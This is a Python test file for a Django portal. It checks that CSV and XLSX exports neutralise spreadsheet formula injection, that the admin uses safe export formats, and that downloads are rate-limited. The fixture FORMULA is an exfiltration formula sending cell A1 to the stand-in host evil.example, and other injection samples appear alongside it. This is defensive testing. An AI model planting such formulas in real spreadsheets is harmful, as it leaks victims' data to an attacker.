"""Open data in spreadsheets: no cell runs as a formula, numbers stay numbers, JSON stays raw."""

import csv
import io
import json

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ImportExportMixin
from import_export.formats import base_formats

from network_portal.exports import (
    ADMIN_EXPORT_FORMATS,
    CSVExport,
    XLSXExport,
    spreadsheet_cell,
    xlsx_bytes,
)
from network_portal.ratelimit import visitor_limit
from tests.factories import MemberFactory
from tests.support import asked_to_wait, body

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+420 374 774 111", "'+420 374 774 111"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Hradební 1, Praha", "Hradební 1, Praha"),
        ("a=b", "a=b"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        (-12.5, -12.5),
        (-3, -3),
        (None, None),
        (True, True),
        ("", ""),
    ],
)
def test_spreadsheet_cell(value, expected):
    """Text a spreadsheet would run gets a leading quote; numbers and plain text do not."""
    assert spreadsheet_cell(value) == expected


def _csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_member_csv_export_cannot_run_formulas(client):
    """An address written as a formula is text in the CSV and unchanged in the JSON."""
    MemberFactory(slug="tachov", address=FORMULA, latitude=49.79, longitude=12.63)
    rows = _csv_rows(client.get("/cs/clenove/export.csv"))
    assert rows[0]["address"] == "'" + FORMULA
    assert rows[0]["latitude"] == "49.79"
    data = json.loads(body(client.get("/cs/clenove/export.json")))
    assert data[0]["address"] == FORMULA


def test_goodpractice_csv_export_cannot_run_formulas(client):
    """Titles, summaries, partners and member names starting with = + - @ are text."""
    from tests.goodpractice.factories import GPMemberFactory, PracticeFactory

    member = GPMemberFactory(name="-Obec", slug="obec")
    PracticeFactory(
        members=[member], title_cs="=1+1", summary_cs="@SUM(A1)", partner_name="+Partner"
    )
    rows = _csv_rows(client.get("/cs/dobra-praxe/export.csv"))
    assert rows[0]["title"] == "'=1+1"
    assert rows[0]["summary"] == "'@SUM(A1)"
    assert rows[0]["partner"] == "'+Partner"
    assert rows[0]["members"] == "'-Obec"
    assert rows[0]["year_from"] == "2022"
    response = client.get("/cs/dobra-praxe/export.json")
    data = json.loads(b"".join(response.streaming_content))
    assert data[0]["title"] == "=1+1"


def test_xlsx_strings_are_text_cells_never_formulas():
    """XLSX keeps the text exactly, as a text cell; numbers stay numbers."""
    workbook = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes(["address", "population"], [[FORMULA, -5], ["-1+2", 10]]))
    )
    sheet = workbook.active
    assert sheet["A2"].value == FORMULA
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "-1+2"
    assert sheet["A3"].data_type == "s"
    assert sheet["B2"].value == -5
    assert sheet["B2"].data_type == "n"


def _admin_export(client, format_class):
    url = "/cs/sprava/members/member/export/"
    form = client.get(url).context["form"]
    data = {"format": str(ADMIN_EXPORT_FORMATS.index(format_class)), "resource": "0"}
    for name, field in form.fields.items():
        if name not in data and field.widget.input_type == "checkbox":
            data[name] = "on"
    response = client.post(url, data)
    assert response.status_code == 200
    return response


def test_admin_csv_export_cannot_run_formulas(client, staff_user):
    """The administration's CSV export neutralises formulas too."""
    MemberFactory(slug="tachov", address=FORMULA, population=12400)
    client.force_login(staff_user)
    response = _admin_export(client, CSVExport)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["address"] == "'" + FORMULA
    assert rows[0]["population"] == "12400"


def test_admin_xlsx_export_writes_formulas_as_text(client, staff_user):
    """The administration's XLSX export writes such text as a text cell, unchanged."""
    MemberFactory(slug="tachov", address=FORMULA, population=12400)
    client.force_login(staff_user)
    response = _admin_export(client, XLSXExport)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    address = sheet.cell(row=2, column=headers.index("address") + 1)
    assert address.value == FORMULA
    assert address.data_type == "s"
    assert sheet.cell(row=2, column=headers.index("population") + 1).value == 12400


def test_every_import_export_admin_uses_the_safe_formats():
    """No admin offers the library's own CSV, XLSX or HTML exports."""
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ImportExportMixin):
            formats = model_admin.get_export_formats()
            assert base_formats.CSV not in formats
            assert base_formats.XLSX not in formats
            assert base_formats.HTML not in formats
            assert CSVExport in formats and XLSXExport in formats


@pytest.mark.parametrize(
    ("path", "message"),
    [
        (
            "/cs/dobra-praxe/export.csv",
            "Stahovali jste data mnohokrát za krátkou dobu. Počkejte prosím minutu a stáhněte "
            "je znovu.",
        ),
        (
            "/en/good-practice/export.json",
            "You have downloaded the data many times in a short time. Please wait a minute and "
            "download it again.",
        ),
    ],
)
def test_downloads_are_limited_per_visitor(client, path, message):
    """Each download streams the whole list and is never cached: one visitor gets
    20 a minute across the sections ("open-data" in ratelimit.VISITOR_LIMITS), then a
    translated 429 in plain text. The JSON schema is not counted; another visitor still
    downloads."""
    limit, _period = visitor_limit("open-data")
    for number in range(limit):
        other_section = "/cs/akce/export.csv" if number % 2 else path
        assert client.get(other_section).status_code == 200, number
    response = client.get(path)
    assert asked_to_wait(response, message) == message
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert client.get("/en/good-practice/export.json", {"format": "schema"}).status_code == 200
    assert client.get(path, REMOTE_ADDR="192.0.2.7").status_code == 200
